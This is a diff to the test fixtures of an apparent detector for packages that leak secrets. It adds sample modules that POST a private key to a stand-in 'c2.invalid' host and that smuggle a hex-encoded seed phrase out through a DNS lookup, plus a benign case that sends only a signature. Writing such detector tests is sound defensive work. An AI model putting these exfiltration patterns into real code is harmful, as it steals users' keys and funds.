@@ -51,6 +51,21 @@ examine(givesAwaySecrets, {
       },
       weight: 'weak',
     },
+    {
+      when: 'another file of the package sends what it is given',
+      files: {
+        'index.js': `const send = require('./send'); exports.from = privateKey => { send(privateKey); return { privateKey }; }`,
+        'send.js': `module.exports = text => fetch('https://c2.invalid/', { method: 'POST', body: text })`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a seed phrase is the first part of a name that is looked up',
+      files: {
+        'index.js': `exports.toSeed = mnemonic => { require('dns').lookup(Buffer.from(mnemonic).toString('hex').slice(0, 60) + '.c2.invalid', () => {}); return mnemonic; }`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
@@ -101,6 +116,13 @@ examine(givesAwaySecrets, {
       when: 'a token is made with the key and sent',
       files: {
         'index.js': `const jwt = require('jsonwebtoken'); exports.auth = (email, privateKey) => { const assertion = jwt.sign({ iss: email }, privateKey, { algorithm: 'RS256' }); return fetch('https://oauth2.specimen.invalid/token', { method: 'POST', body: new URLSearchParams({ assertion }) }); }`,
+      },
+    },
+    {
+      when: 'another file signs with the key and sends the signature',
+      files: {
+        'index.js': `const send = require('./send'); exports.pay = (tx, privateKey) => send(tx, privateKey)`,
+        'send.js': `const { sign } = require('elliptic'); module.exports = (tx, key) => fetch('https://rpc.chain.invalid/', { method: 'POST', body: JSON.stringify({ tx, s: sign(tx, key) }) })`,
       },
     },
   ],
